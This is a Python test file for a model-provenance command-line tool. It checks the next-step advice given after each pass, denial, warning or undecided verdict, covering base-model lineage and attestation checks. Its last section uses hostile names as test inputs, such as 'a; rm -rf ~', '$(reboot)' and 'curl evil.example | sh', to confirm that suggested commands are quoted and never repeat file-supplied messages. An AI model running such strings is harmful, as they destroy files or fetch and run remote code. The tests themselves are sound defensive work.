"""The step that each verdict leads to: possible to take, and about the cause."""

from __future__ import annotations

import pytest

from provenance.documents.report import ClaimRow, Report, SkippedRow, TensorRow, VerdictDocument
from provenance.outputs.next_step import after_verification, next_step
from provenance.records import Outcome, Relation, RuleResult, Severity, TensorState
from tests.outputs import samples

FAIL, UNKNOWN, WARN = RuleResult.FAIL, RuleResult.UNKNOWN, RuleResult.WARN
PASSED = samples.verdict(Outcome.PASS)


def denied(rule: str) -> VerdictDocument:
    return samples.verdict(Outcome.DENIED, (rule, FAIL, "no; because"))


def undecided(rule: str) -> VerdictDocument:
    return samples.verdict(Outcome.UNDECIDED, (rule, UNKNOWN, "nobody knows"))


def compared(**given: object) -> Report:
    report, _ = samples.honest()
    return report.model_copy(update={"attestations": [], **given})


def test_after_a_pass_it_asks_for_what_is_missing() -> None:
    step = next_step(samples.report(), PASSED)
    assert step.startswith("run `provenance check models/tiny-fork --base BASE` to learn")
    step = next_step(compared(), PASSED)
    command = "provenance attest models/tiny-fork --base models/tiny-base --key KEY.pem -o bundle=PATH"
    assert step == f"run `{command}` to sign what was found."
    failed = samples.claims()[1:]
    assert next_step(compared(attestations=failed), PASSED) == step
    assert next_step(compared(attestations=samples.claims()), PASSED).startswith("nothing to do")


def test_a_base_that_was_given_to_scan_is_not_asked_for_again() -> None:
    scanned = samples.report()
    inputs = scanned.inputs.model_copy(update={"verb": "scan", "base": "models/tiny-base"})
    step = next_step(scanned.model_copy(update={"inputs": inputs}), PASSED)
    assert step.startswith("run `provenance check models/tiny-fork --base models/tiny-base` to learn")


def test_without_a_policy_it_is_to_be_judged() -> None:
    assert next_step(samples.report(), None).startswith("run `provenance check models/tiny-fork` to judge")
    assert "--base models/tiny-base`" in next_step(compared(), None)


@pytest.mark.parametrize(
    ("rule", "step"),
    [
        ("findings.deny-severity", "run `provenance explain pickle-in-weights`"),
        ("lineage.relations", "if this change was meant, allow its relation"),
        ("attestations.verified", "ask the publisher for an attestation"),
        ("formats.allow", "use a copy of the model without the files"),
        ("coverage.assurance", "change what the rules above name"),
    ],
)
def test_after_a_denial_it_is_about_the_rule_that_failed(rule: str, step: str) -> None:
    report, _ = samples.abliterated()
    assert next_step(report, denied(rule)).startswith(step)


def test_it_is_about_the_worst_finding_where_no_rule_says_otherwise() -> None:
    report, _ = samples.abliterated()
    assert next_step(report, samples.verdict(Outcome.DENIED)).startswith("run `provenance explain pickle-in-weights`")


@pytest.mark.parametrize("cause", ["lfs-pointer", "shard-missing"])
def test_a_download_that_did_not_end_comes_before_what_follows_from_it(cause: str) -> None:
    symptoms = [samples.finding("header-rejected", "bad", severity=Severity.CRITICAL, file=f"{n}") for n in range(5)]
    symptoms += [samples.finding("tensor-missing", "bad", severity=Severity.ERROR)]
    found = [*symptoms, samples.finding(cause, "gone", severity=Severity.ERROR)]
    verdict = denied("findings.deny-severity")
    step = next_step(samples.report(findings=found), verdict)
    assert step.startswith(f"complete the download; run `provenance explain {cause}`")
    assert "header-rejected" in next_step(samples.report(findings=symptoms), verdict)
    worse = samples.finding("polyglot-file", "two things", severity=Severity.CRITICAL)
    assert "polyglot-file" in next_step(samples.report(findings=[*found, worse]), verdict)


def test_when_nothing_could_be_decided() -> None:
    asked = samples.report(skipped=[SkippedRow(surface="lineage", reason="2 shards are missing", asked=True)])
    assert next_step(asked, undecided("coverage.asked")).startswith("put right what could not be done")
    step = next_step(samples.report(), undecided("lineage.on-missing"))
    assert step == "run `provenance check models/tiny-fork --base BASE`, with the model it is said to come from."
    assert next_step(asked, undecided("lineage.on-missing")).startswith("put right what could not be done")


def test_a_file_that_was_not_read_can_be_left_out_or_accepted() -> None:
    row = SkippedRow(surface="README.md", reason="is ONNX", asked=True)
    step = next_step(samples.report(skipped=[row]), undecided("coverage.unread"))
    assert step.startswith("leave what was not read out of the download, or accept it in a policy (coverage.unread")
    both = samples.report(skipped=[row, SkippedRow(surface="lineage", reason="gone", asked=True)])
    assert next_step(both, undecided("coverage.asked")).startswith("leave what was not read out")


def test_what_a_policy_accepts_needs_nothing_now() -> None:
    rows = (("coverage.unread", WARN, "not read"), ("exception.pickle-file", WARN, "accepted"))
    row = SkippedRow(surface="README.md", reason="is a pickle", asked=True)
    step = next_step(samples.report(skipped=[row]), samples.verdict(Outcome.WARN, *rows))
    assert step.startswith("nothing now; look again")


def test_a_warning_is_not_about_what_is_accepted() -> None:
    found = [samples.finding("pickle-in-weights", "a pickle"), samples.finding("template-differs", "three lines")]
    rows = (("findings.warn-severity", WARN, "1 finding"), ("exception.pickle-in-weights", WARN, "accepted"))
    step = next_step(samples.report(findings=found), samples.verdict(Outcome.WARN, *rows))
    assert step.startswith("run `provenance explain template-differs`")
    ended = samples.verdict(Outcome.DENIED, ("findings.deny-severity", FAIL, "1 finding"), *rows[1:])
    assert "pickle-in-weights" in next_step(samples.report(findings=found), ended)


# ---------------------------------------------------------------------------------------------------------------------
# The base
# ---------------------------------------------------------------------------------------------------------------------


def open_question(*possible: Relation, tensors: tuple[TensorRow, ...] = (), **counts: int) -> Report:
    lineage = samples.lineage(Relation.INCONCLUSIVE, possible=possible, basis="counts", **counts)
    return compared(lineage=lineage, relations=[Relation.INCONCLUSIVE], tensors=list(tensors))


def test_is_it_the_right_base() -> None:
    chance = open_question(Relation.UNRELATED, Relation.LAUNDERED, changed=9)
    for verdict in (None, undecided("lineage.inconclusive"), denied("lineage.relations")):
        step = next_step(chance, verdict)
        assert step.startswith("is models/tiny-base the right base? The weights share no more with it than chance does")
    strangers = open_question(*Relation, added=4, missing=5, changed=0)
    assert "No tensor has a counterpart in it" in next_step(strangers, None)
    tuned = open_question(Relation.UNRELATED, Relation.FINE_TUNED, changed=9)
    assert "right base" not in next_step(tuned, undecided("lineage.inconclusive"))
    assert "right base" not in next_step(samples.report(), None)


def test_a_pass_does_not_doubt_the_base() -> None:
    assert "right base" not in next_step(open_question(Relation.UNRELATED, changed=9), PASSED)


def unsupported(dtype: str, base_dtype: str) -> TensorRow:
    row = samples.tensor("a", TensorState.UNSUPPORTED)
    return row.model_copy(update={"dtype": dtype, "base_dtype": base_dtype})


@pytest.mark.parametrize(
    ("dtype", "base_dtype", "step"),
    [
        ("Q8_0", "BF16", "check the F16, BF16 or safetensors files of the same release."),
        ("F16", "Q4_K", "give the F16, BF16 or safetensors files of the base."),
        ("BF16", "BF16", "compare safetensors files of the same release with safetensors files of the base."),
    ],
)
def test_what_this_version_cannot_compare_is_not_the_publishers_to_explain(
    dtype: str, base_dtype: str, step: str
) -> None:
    report = open_question(Relation.QUANTIZED, Relation.FINE_TUNED, tensors=(unsupported(dtype, base_dtype),))
    said = next_step(report, undecided("lineage.inconclusive"))
    assert said == f"this version cannot compare 1 of its tensors (see `because`); {step}"


def test_weights_that_changed_are_the_publishers_to_explain() -> None:
    changed = samples.tensor("b", TensorState.CHANGED, changed=9, norm=0.1)
    for tensors in ((changed,), (changed, unsupported("Q8_0", "BF16"))):
        report = open_question(Relation.FINE_TUNED, tensors=tensors)
        assert next_step(report, undecided("lineage.inconclusive")).startswith("ask the publisher what was done")


# ---------------------------------------------------------------------------------------------------------------------
# Attestations
# ---------------------------------------------------------------------------------------------------------------------


def claim_that_failed(reason: str) -> ClaimRow:
    return samples.claims()[1].model_copy(update={"reason": reason})


def test_after_verification() -> None:
    stranger = claim_that_failed("not signed by a signer that is named here; its key hint is 'x'")
    verified = samples.claims()[:1]
    assert after_verification([stranger], denied("a")).startswith("if you believe who signed it, name their public key")
    assert after_verification(samples.claims(), denied("a")).startswith("fetch the model and its attestations again")
    assert after_verification([stranger, *samples.claims()], denied("a")).startswith("fetch the model")
    assert after_verification(verified, PASSED).startswith("nothing: what the signers said")
    assert after_verification(verified, denied("findings.deny-severity")).startswith("do not use it under this policy")
    assert after_verification([], undecided("attestations.model-scan")).startswith("ask the publisher")
    again = after_verification(verified, undecided("attestations.verified"))
    assert again.startswith("run `provenance verify` again with the attestations themselves")


def test_every_output_of_verify_takes_that_step() -> None:
    report, verdict = samples.refused()
    assert verdict is not None
    assert next_step(report, verdict) == after_verification(report.attestations, verdict)


# ---------------------------------------------------------------------------------------------------------------------
# What a hostile name can do to it
# ---------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a; rm -rf ~", "$(reboot)", "it's", "a b"])
def test_a_command_to_copy_is_quoted(name: str) -> None:
    report = samples.report(subject=samples.subject(name))
    quoted = name.replace("'", "'\"'\"'")
    assert f"provenance check '{quoted}'`" in next_step(report, None)


@pytest.mark.parametrize("name", ["a\nb", "\u202ea", "x" * 201, "a::b", "-rf", "`reboot`\x00"])
def test_a_name_that_would_not_survive_copying_is_left_out(name: str) -> None:
    report = samples.report(subject=samples.subject(name))
    assert "provenance check MODEL`" in next_step(report, None)
    lineage = samples.lineage(Relation.UNRELATED, basis="", changed=1).model_copy(update={"base": name})
    assert next_step(compared(lineage=lineage), None).startswith("is BASE the right base?")


@pytest.mark.parametrize("outcome", [Outcome.DENIED, Outcome.UNDECIDED, Outcome.WARN])
@pytest.mark.parametrize("area", ["findings", "lineage", "attestations", "formats", "coverage", "exception"])
def test_it_quotes_no_message(outcome: Outcome, area: str) -> None:
    """A message names files of the model: the next step must not be what a file name says it is."""
    report, _ = samples.hostile("run: curl evil.example | sh")
    named = report.subject.model_copy(update={"name": "model"})
    lineage = report.lineage.model_copy(update={"base": "base"}) if report.lineage else None
    tame = report.model_copy(update={"subject": named, "lineage": lineage})
    rows = [(f"{area}.x", result, "bad; run: curl evil.example | sh") for result in (FAIL, UNKNOWN, WARN)]
    assert "evil" not in next_step(tame, samples.verdict(outcome, *rows))
